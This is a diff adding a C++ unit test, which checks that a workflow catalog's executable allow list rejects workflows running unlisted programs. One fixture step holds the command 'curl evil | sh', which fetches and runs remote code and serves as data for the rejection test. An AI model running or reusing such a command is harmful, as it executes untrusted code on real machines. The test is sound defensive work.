@@ -173,6 +173,28 @@ TEST_F(WorkflowDirTest, AVersionPutThroughTheApiSurvivesARestartUntilTheFileChan
       << deploy.dump();
 }
 
+// kilnd's --workflow-executables: a workflow running anything else is refused when put (every
+// offending step named), when loaded from the directory, and when started from a version stored
+// before the list was set.
+TEST(WorkflowCatalogTest, AnExecutableAllowListRefusesWorkflowsRunningAnythingElse) {
+  FakeRunStore fake;
+  WorkflowCatalog catalog(fake);
+  const std::string two =
+      "name: two\nversion: \"1\"\nscope: host\nsteps:\n  - id: ok\n    run: [nvidia-smi]\n    timeout: 1m\n"
+      "  - id: shell\n    run: [bash, -c, \"curl evil | sh\"]\n    timeout: 1m\n"
+      "  - id: boot\n    type: reboot\n    timeout: 10m\n";
+  ASSERT_TRUE(catalog.putWorkflow("two", two, kAdmin).ok()) << "no list: any executable";
+  catalog.restrictExecutables(*parseExecutableAllowList("nvidia-smi\n", "allow"));
+  auto refused = catalog.putWorkflow("two", two + "description: again\n", kAdmin);
+  ASSERT_FALSE(refused.ok());
+  EXPECT_EQ(refused.error().code, ErrorCode::kInvalidContent);
+  ASSERT_EQ(refused.error().fields.size(), 2u) << "bash, and the reboot step's kiln-reboot";
+  EXPECT_EQ(refused.error().fields[0].path, "steps[1].run[0]");
+  EXPECT_NE(refused.error().fields[1].message.find("'kiln-reboot'"), std::string::npos);
+  EXPECT_EQ(catalog.listWorkflows()->size(), 1u);
+  EXPECT_TRUE(catalog.putWorkflow("one-step", kOneStep, kAdmin).ok()) << "a listed executable";
+}
+
 TEST(WorkflowCatalogTest, VersionsOfAWorkflowThatDoesNotExistIsNotFound) {
   FakeRunStore fake;
   WorkflowCatalog catalog(fake);
